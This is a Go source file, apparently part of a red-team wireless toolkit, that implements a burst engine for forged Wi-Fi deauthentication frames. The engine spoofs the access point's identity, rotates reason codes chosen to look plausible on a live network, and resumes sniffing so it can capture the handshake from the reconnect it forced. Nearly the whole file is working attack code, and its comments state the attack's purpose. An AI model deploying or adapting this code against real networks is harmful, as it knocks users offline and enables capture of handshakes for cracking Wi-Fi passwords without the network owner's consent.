// Package deauth implements the forged deauthentication burst engine.
package deauth

import (
	"fmt"
	"log"
	"sync"
	"time"

	"github.com/google/uuid"

	"github.com/chimera-red/chimera/internal/core/domain"
	"github.com/chimera-red/chimera/internal/dot11"
	"github.com/chimera-red/chimera/internal/radio"
	"github.com/chimera-red/chimera/internal/telemetry"
)

const (
	// defaultInterval paces frames to respect driver queuing limits.
	defaultInterval = 5 * time.Millisecond
	// settleDelay lets the radio stabilize after reconfiguration before
	// the first frame goes out.
	settleDelay = 20 * time.Millisecond
	// fallbackChannel is used when neither the job nor the radio pins one.
	fallbackChannel = 6
)

// rotationReasons are the reason codes cycled through when rotation is
// enabled: unspecified, prior auth invalid, station leaving, inactivity,
// class-2 and class-3 violations. All plausible on a live network.
var rotationReasons = []uint16{1, 2, 3, 4, 6, 7}

// Engine sends bursts of forged deauthentication frames through the radio
// controller and guarantees passive capture resumes on the burst channel
// afterwards, where the forced reconnect's handshake will appear.
type Engine struct {
	ctrl *radio.Controller

	mu  sync.Mutex
	seq uint16 // 12-bit, persists across bursts
}

// NewEngine creates a burst engine on ctrl.
func NewEngine(ctrl *radio.Controller) *Engine {
	return &Engine{ctrl: ctrl}
}

// nextSeq returns the current sequence number and advances it, wrapping
// at 4096 without gaps.
func (e *Engine) nextSeq() uint16 {
	e.mu.Lock()
	defer e.mu.Unlock()
	s := e.seq
	e.seq = (e.seq + 1) & 0x0FFF
	return s
}

// Single sends one deauthentication frame. Alias for a burst of one.
func (e *Engine) Single(job domain.DeauthJob) (domain.DeauthResult, error) {
	job.Count = 1
	return e.Run(job)
}

// Run executes one burst. Once transmission has started the burst always
// runs to its full packet count; there is no preemptive cancellation.
// Regardless of outcome the radio ends either in passive capture on the
// target channel (when it was sniffing before) or back in its pre-burst
// mode, never with a spoofed identity.
func (e *Engine) Run(job domain.DeauthJob) (domain.DeauthResult, error) {
	res := domain.DeauthResult{ID: uuid.New().String()}

	if err := job.Validate(); err != nil {
		return res, err
	}
	interval := job.Interval
	if interval <= 0 {
		interval = defaultInterval
	}

	// Snapshot pre-burst state before touching the radio.
	prevMode := e.ctrl.Mode()
	prevHop := e.ctrl.Hopping()
	prevChannel := e.ctrl.Channel()

	channel := job.Channel
	if channel == 0 {
		channel = prevChannel
	}
	if channel <= 0 {
		channel = fallbackChannel
	}
	res.Channel = channel

	origMAC, err := e.ctrl.MAC()
	if err != nil {
		return res, fmt.Errorf("deauth: read radio MAC: %w", err)
	}

	if err := e.ctrl.BeginTransmit(channel, job.AccessPoint); err != nil {
		// Nothing was transmitted; put the radio back where it was and
		// make sure the spoofed identity is gone.
		e.restoreAfterAbort(prevMode, prevHop, prevChannel, origMAC)
		return res, fmt.Errorf("deauth: radio reconfiguration failed: %w", err)
	}

	time.Sleep(settleDelay)

	log.Printf("Deauth burst: %d frames to %s (target %v) on channel %d",
		job.Count, job.AccessPoint, job.Target, channel)

	for i := 0; i < job.Count; i++ {
		reason := job.Reason
		if job.RotateReasons || reason == 0 {
			reason = rotationReasons[i%len(rotationReasons)]
		}

		frame := dot11.BuildDeauth(job.Target, job.AccessPoint, reason, e.nextSeq())
		if err := e.ctrl.Transmit(frame); err != nil {
			res.Failed++
			telemetry.InjectionErrors.WithLabelValues("deauth").Inc()
		} else {
			res.Sent++
			telemetry.InjectionsTotal.WithLabelValues("deauth").Inc()
		}

		if i < job.Count-1 {
			time.Sleep(interval)
		}
	}

	log.Printf("Deauth burst complete: %d sent, %d failed", res.Sent, res.Failed)

	// Resume capture on the burst channel, not the pre-burst channel: the
	// point of the attack is catching the handshake of the reconnect we
	// just forced, and that happens here.
	if prevMode == domain.RadioSniffing {
		if err := e.ctrl.ResumePassive(channel, prevHop, origMAC); err != nil {
			return res, fmt.Errorf("deauth: resume capture: %w", err)
		}
	} else {
		if err := e.ctrl.RestoreIdentity(origMAC); err != nil {
			log.Printf("Warning: restoring radio MAC failed: %v", err)
		}
		if err := e.ctrl.Off(); err != nil {
			return res, fmt.Errorf("deauth: radio off after burst: %w", err)
		}
	}

	return res, nil
}

func (e *Engine) restoreAfterAbort(prevMode domain.RadioMode, prevHop bool, prevChannel int, mac []byte) {
	if err := e.ctrl.RestoreIdentity(mac); err != nil {
		log.Printf("Warning: restoring radio MAC after abort failed: %v", err)
	}
	if prevMode == domain.RadioSniffing {
		ch := prevChannel
		if prevHop {
			ch = 0
		}
		if err := e.ctrl.StartSniffing(ch); err != nil {
			log.Printf("Warning: resuming sniffer after abort failed: %v", err)
		}
		return
	}
	if err := e.ctrl.Off(); err != nil {
		log.Printf("Warning: radio off after abort failed: %v", err)
	}
}
